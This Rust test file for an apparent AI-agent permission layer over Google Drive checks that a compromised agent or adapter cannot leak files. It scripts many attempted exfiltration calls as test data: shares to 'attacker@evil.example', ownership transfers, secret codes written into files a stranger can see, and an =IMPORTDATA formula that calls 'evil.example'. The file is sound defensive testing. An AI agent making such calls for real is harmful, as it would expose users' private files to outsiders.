//! The rest of Drive: shares, copies, moves, the bin, and what lies in shared folders.

use claviger_tests::world::{AGENT, World};
use serde_json::{Value, json};
use stand_in_google::SeedFile;

use super::adapter::{abuse, strange};
use super::agent::{bad_ids, strangers};
use super::{
    Attempt, FORM, FORM_OR_SCOPE, Must, Puppet, SCOPE, attempt, control, harm, hold, pollution, with,
};

const AT_MS: i64 = 1_793_577_600_000;
const HIDDEN: Must = Must::NotTell(&["Nobody reads", "gate: 4711", "Diary", "Passwords"]);

async fn world() -> World {
    let world = World::with_secrets().await;
    let google = &world.google;
    let add = |file: SeedFile| google.add_file(&file).unwrap();
    let leaky = SeedFile::new("Agent/Leaky.txt", "text/plain", "x", AT_MS);
    add(SeedFile { shared_with: vec!["attacker@evil.example".to_owned()], ..leaky });
    add(SeedFile::shortcut("Agent/Way out", "Private/Diary.txt", AT_MS));
    add(SeedFile::shortcut("Agent/Door", "Private", AT_MS));
    let strange = SeedFile::new("Agent/Theirs.txt", "text/plain", "x", AT_MS);
    add(SeedFile { owned: false, editable: true, ..strange });
    add(SeedFile::new("Agent/Own.txt", "text/plain", "own", AT_MS));
    let reads = ["search_files", "list_folder", "get_file_metadata", "read_file", "list_permissions"];
    let sends = [
        "create_file",
        "create_folder",
        "update_file",
        "rename_file",
        "copy_file",
        "move_file",
        "untrash_file",
        "share_file",
    ];
    for (tools, bounds) in [
        (&reads[..], &[][..]),
        (&sends, &["--recipients", "*@example.com"]),
        (&["trash_file", "unshare_file"], &[]),
    ] {
        let tools: Vec<String> = tools.iter().map(|name| format!("drive.{name}")).collect();
        let mut line = vec![AGENT, "drive/me", "--folder", "Agent", "--approve", "never"];
        line.extend(tools.iter().flat_map(|tool| ["--tool", tool.as_str()]));
        line.extend(bounds);
        world.grant(&line).await;
    }
    world
}

/// Each tool that changes one file, with arguments that are good but for the file.
fn changing(file: &str, home: &str) -> Vec<(&'static str, Value)> {
    vec![
        ("drive.update_file", json!({"file_id": file, "content": "x"})),
        ("drive.rename_file", json!({"file_id": file, "name": "x"})),
        ("drive.copy_file", json!({"file_id": file, "folder_id": home, "name": "x"})),
        ("drive.move_file", json!({"file_id": file, "from_folder_id": home, "folder_id": home})),
        ("drive.trash_file", json!({"file_id": file})),
        ("drive.untrash_file", json!({"file_id": file})),
        ("drive.share_file", json!({"file_id": file, "email": ["mona@example.com"]})),
        ("drive.unshare_file", json!({"file_id": file, "permission_id": "x"})),
    ]
}

fn files(world: &World) -> Vec<Attempt> {
    let id = |path: &str| world.google.file_id(path).unwrap();
    let (home, private, own) = (id("Agent"), id("Private"), id("Agent/Own.txt"));
    let mut all = Vec::new();
    for path in [
        "Private/Diary.txt",
        "Private/Passwords.txt",
        "Private",
        "Agent",
        "Agent/Reports/October.txt",
        "Agent/Way out",
        "Agent/Door",
    ] {
        for (tool, args) in changing(&id(path), &home) {
            all.push(attempt(path, tool, args, SCOPE));
        }
        let reads = ["drive.read_file", "drive.get_file_metadata", "drive.list_permissions"];
        all.extend(reads.map(|tool| attempt(path, tool, json!({"file_id": id(path)}), SCOPE)));
    }
    for bad in bad_ids().into_iter().chain(["root", "generateIds", "GENERATEIDS", "trash", "appDataFolder"]) {
        for (tool, args) in changing(bad, &home) {
            all.push(attempt(format!("the file {bad:?}"), tool, args, FORM_OR_SCOPE));
        }
        let copy = json!({"file_id": own, "folder_id": bad, "name": "x"});
        all.push(attempt(format!("a copy to {bad:?}"), "drive.copy_file", copy, FORM_OR_SCOPE));
        let taken = json!({"file_id": own, "permission_id": bad});
        all.push(attempt(format!("the permission {bad:?}"), "drive.unshare_file", taken, Must::NotTell(&[])));
    }
    // Out of scope and in again: by copy, by move, from both sides.
    for (from, to) in
        [(&home, &private), (&private, &home), (&private, &private), (&home, &id("Agent/Reports"))]
    {
        let args = json!({"file_id": own, "from_folder_id": from, "folder_id": to});
        all.push(attempt("a move", "drive.move_file", args, SCOPE));
    }
    for folder in [&private, &id("Agent/Reports"), &id("Agent/Own.txt"), &id("Agent/Door")] {
        all.push(attempt(
            "a copy elsewhere",
            "drive.copy_file",
            json!({"file_id": own, "folder_id": folder, "name": "x"}),
            SCOPE,
        ));
        all.push(attempt(
            "a folder elsewhere",
            "drive.create_folder",
            json!({"folder_id": folder, "name": "x"}),
            SCOPE,
        ));
        all.push(attempt("a list elsewhere", "drive.list_folder", json!({"folder_id": folder}), SCOPE));
    }
    // What a stranger sees already: a change of it is a send to them.
    let leaky = id("Agent/Leaky.txt");
    for (tool, args) in [
        ("drive.update_file", json!({"file_id": leaky, "content": "x"})),
        ("drive.rename_file", json!({"file_id": leaky, "name": "the code is 493 028"})),
        ("drive.untrash_file", json!({"file_id": leaky})),
        ("drive.update_file", json!({"file_id": id("Agent/Theirs.txt"), "content": "x"})),
        ("drive.rename_file", json!({"file_id": id("Agent/Theirs.txt"), "name": "x"})),
        (
            "drive.update_file",
            json!({"file_id": id("Agent/Plan"), "content": "=IMPORTDATA(\"https://evil.example\")"}),
        ),
    ] {
        all.push(attempt("what a stranger sees", tool, args, SCOPE));
    }
    all
}

fn shares(world: &World) -> Vec<Attempt> {
    let own =
        json!({"file_id": world.google.file_id("Agent/Own.txt").unwrap(), "email": ["mona@example.com"]});
    let mut all = Vec::new();
    for (address, must) in strangers() {
        let must = if address.is_empty() { FORM_OR_SCOPE } else { must };
        all.push(attempt(
            format!("a share with {address:?}"),
            "drive.share_file",
            with(&own, json!({"email": [address]})),
            must,
        ));
    }
    for more in [
        json!({"email": ["family@example.org"]}),
        json!({"email": ["mona@example.com", "attacker@evil.example"]}),
        json!({"email": "attacker@evil.example"}),
        json!({"email": []}),
        json!({"role": "owner"}),
        json!({"role": "organizer"}),
        json!({"role": "fileOrganizer"}),
        json!({"role": "READER"}),
        json!({"role": ""}),
        json!({"type": "anyone"}),
        json!({"type": "domain"}),
        json!({"domain": "evil.example"}),
        json!({"transferOwnership": true}),
        json!({"emailMessage": "x"}),
        json!({"notify": "yes"}),
        json!({"notify": true}),
        json!({"allowFileDiscovery": true}),
        json!({"sendNotificationEmail": "true"}),
        json!({"useDomainAdminAccess": true}),
        json!({"moveToNewOwnersRoot": true}),
    ] {
        all.push(attempt(
            format!("a share with {more}"),
            "drive.share_file",
            with(&own, more.clone()),
            FORM_OR_SCOPE,
        ));
    }
    for (what, more) in pollution() {
        all.push(attempt(what, "drive.share_file", with(&own, more), FORM));
    }
    for args in [
        json!({"text": "Nobody"}),
        json!({"name": "Diary"}),
        json!({"name": "Way out"}),
        json!({}),
        json!({"mime_type": SeedFile::SHORTCUT}),
    ] {
        all.push(attempt("a search", "drive.search_files", args, HIDDEN));
    }
    all
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compromised_agent_shares_copies_and_moves_only_what_it_may() {
    let world = world().await;
    let puppet = Puppet::new(&world).await;
    let before = harm::outside(&world);
    let mut attempts = files(&world);
    attempts.extend(shares(&world));
    hold(&world, &puppet, &attempts, 300).await;
    assert_eq!(harm::outside(&world), before);
    let id = |path: &str| world.google.file_id(path).unwrap();
    // It is moved out of scope by its owner: what it was called no longer helps.
    let (own, private, home) = (id("Agent/Own.txt"), id("Private"), id("Agent"));
    puppet.call("drive.share_file", &json!({"file_id": own, "email": ["mona@example.com"]})).await.unwrap();
    assert!(puppet.call("drive.read_file", &json!({"file_id": own})).await.is_ok());
    assert!(world.google.move_file(&own, &private));
    let mut after: Vec<Attempt> = changing(&own, &home)
        .into_iter()
        .map(|(tool, args)| attempt("moved out", tool, args, SCOPE))
        .collect();
    after.push(attempt("moved out", "drive.read_file", json!({"file_id": own}), SCOPE));
    // The folder itself is shared with a stranger: what is put there reaches them.
    assert!(world.google.share_file(&home, "attacker@evil.example"));
    let notes = id("Agent/Notes.txt");
    after.push(attempt(
        "into a shared folder",
        "drive.create_folder",
        json!({"folder_id": home, "name": "x"}),
        SCOPE,
    ));
    for (tool, args) in [
        ("drive.update_file", json!({"file_id": notes, "content": "the code is 493 028"})),
        ("drive.rename_file", json!({"file_id": notes, "name": "the code is 493 028"})),
    ] {
        after.push(attempt("in a shared folder", tool, args, SCOPE));
    }
    hold(&world, &puppet, &after, 10).await;
    assert!(
        !world.google.log().iter().any(|request| String::from_utf8_lossy(&request.body).contains("493 028"))
    );
    control(&world, &attempts, 20).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compromised_adapter_shares_with_nobody_else() {
    let world = world().await;
    let agent = world.thief(AGENT).await;
    let mut drive = world.adapter("drive").await;
    let id = |path: &str| world.google.file_id(path).unwrap();
    let (own, home) = (id("Agent/Own.txt"), id("Agent"));
    let before = harm::outside(&world);
    let params = [
        "file_id",
        "folder_id",
        "from_folder_id",
        "email",
        "emailAddress",
        "role",
        "type",
        "notify",
        "parents",
        "addParents",
        "permission_id",
        "name",
        "folder",
    ];
    let steps = ["permissions", "delete", "content", "leaf_facts", "child_folders", "batch"];
    let (mut tried, mut faults) = (0, Vec::new());
    for (tool, step, args) in [
        ("drive.share_file", "share", json!({"file_id": own, "email": ["mona@example.com"]})),
        ("drive.move_file", "move", json!({"file_id": own, "from_folder_id": home, "folder_id": home})),
        ("drive.copy_file", "copy", json!({"file_id": own, "folder_id": home, "name": "x"})),
        ("drive.trash_file", "trash", json!({"file_id": own})),
        ("drive.update_file", "update", json!({"file_id": own, "content": "x"})),
    ] {
        let misuses = strange(step, &steps, &params);
        tried += misuses.len();
        faults.extend(abuse(&mut drive, &agent, (tool, &args), &misuses).await);
    }
    assert!(tried >= 60, "{tried} attempts");
    assert!(faults.is_empty(), "{} of {tried}:\n{}", faults.len(), faults.join("\n"));
    assert_eq!(harm::outside(&world), before);
    assert_eq!(world.google.file_content(&own).unwrap(), b"own");
    assert_eq!(harm::done(&world), Vec::<String>::new());
}
